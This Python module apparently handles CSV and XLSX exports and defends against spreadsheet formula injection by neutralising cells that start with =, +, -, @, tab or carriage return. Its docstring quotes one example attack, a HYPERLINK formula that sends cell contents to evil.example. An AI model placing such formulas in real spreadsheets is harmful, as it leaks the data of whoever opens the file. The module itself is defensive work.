"""The one way exports write cells: spreadsheet files must not attack the people who open them.

A cell that starts with `=`, `+`, `-`, `@`, tab or carriage return is a formula to Excel and
LibreOffice (`=HYPERLINK("http://evil.example/?x="&A1,"klik")` sends the sheet away). So:
- CSV: such text gets a leading apostrophe, the spreadsheet convention for "this is text";
  our imports take it away again (core.table_files), so an export imports unchanged.
- XLSX: every text cell is written as a string cell, never a formula or an error value, and a
  risky one is also marked quote-prefixed (Excel's own "text" flag), so editing it keeps it text.
  Characters XML cannot carry (old data from before input refused them) become U+FFFD instead of
  breaking the file for every reader.
Numbers, booleans and empty cells stay what they are.
"""

from __future__ import annotations

import csv
import datetime as dt
import enum
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = frozenset("=+-@\t\r")


def plain(value: Any) -> Any:
    """Enums as their value, dates as ISO text, lists joined with `; `; None as empty."""
    if value is None:
        return ""
    if isinstance(value, enum.Enum):
        return value.value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return "; ".join(str(plain(v)) for v in value)
    return value


def csv_cell(value: Any) -> Any:
    if value.__class__ is str and value and value[0] in FORMULA_STARTS:
        return "'" + value
    return value


def csv_lines(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text (no header, no byte-order mark), every text cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue()


def csv_document(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A whole CSV file, UTF-8 with a byte-order mark (so Excel reads æøå right)."""
    return ("\ufeff" + csv_lines([header]) + csv_lines(rows)).encode()


def xlsx_cell(sheet: Any, value: Any, number_format: str | None = None) -> Any:
    """A value for a write-only sheet: risky text as quote-prefixed text, characters XML cannot
    carry replaced; a float shown with number_format when one is given."""
    if value.__class__ is str:
        if ILLEGAL_CHARACTERS_RE.search(value):
            value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        if value and (value[0] in FORMULA_STARTS or value in ERROR_CODES):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            cell.quotePrefix = True
            return cell
        return value
    if number_format is not None and isinstance(value, float):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = number_format
        return cell
    return value


class XlsxRows:
    """One sheet of a write-only workbook; every cell goes through xlsx_cell."""

    def __init__(self, sheet: Any) -> None:
        self.sheet = sheet

    def append(self, row: Sequence[Any], number_format: str | None = None) -> None:
        self.sheet.append([xlsx_cell(self.sheet, v, number_format) for v in row])

    def extend(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.append(row)


class XlsxBook:
    """A write-only workbook of one or more sheets; add them in order, then save."""

    def __init__(self) -> None:
        self.workbook = Workbook(write_only=True)

    def add_sheet(self, title: str, header: Sequence[str] = ()) -> XlsxRows:
        rows = XlsxRows(self.workbook.create_sheet(title))
        if header:
            rows.append(header)
        return rows

    def save(self, target: Any) -> None:
        self.workbook.save(target)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.save(buffer)
        return buffer.getvalue()


class XlsxSheet(XlsxBook):
    """A workbook with one sheet under a header (the common export); append rows, then save."""

    def __init__(self, title: str, header: Sequence[str]) -> None:
        super().__init__()
        self.rows = self.add_sheet(title, header)

    def append(self, row: Sequence[Any]) -> None:
        self.rows.append(row)

    def extend(self, rows: Iterable[Sequence[Any]]) -> None:
        self.rows.extend(rows)
